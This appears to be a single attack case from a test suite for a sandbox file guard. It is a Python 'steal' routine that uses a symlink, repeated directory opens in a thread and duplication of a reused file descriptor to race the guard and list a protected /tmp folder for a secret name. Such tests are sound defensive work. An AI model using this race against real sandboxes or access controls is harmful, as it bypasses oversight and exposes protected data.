# class: files
# rule: read_write_tmp
# success: a folder of /tmp is listed by a copy of its fd, taken while the guard inspects the open
#   object
# proof: read
# timeout: 40
import os
import threading
import time

from attack import DIR, SECRET, attempt


@attempt
def steal():
    os.symlink(DIR, "innocent")
    number = os.open(os.devnull, os.O_RDONLY)
    os.close(number)
    end = time.monotonic() + 3
    found = []

    def take(number):
        names = " ".join(os.listdir(number))
        if SECRET in names:
            found.append(names)

    def ask():
        while not found and time.monotonic() < end:
            try:
                opened = os.open("innocent", os.O_RDONLY | os.O_DIRECTORY)
            except OSError:
                continue
            take(opened)
            os.close(opened)

    thread = threading.Thread(target=ask)
    thread.start()
    while not found and time.monotonic() < end:
        try:
            copy = os.dup(number)
        except OSError:
            continue
        try:
            take(copy)
        except OSError:
            pass
        os.close(copy)
    thread.join()
    return found[0] if found else ""
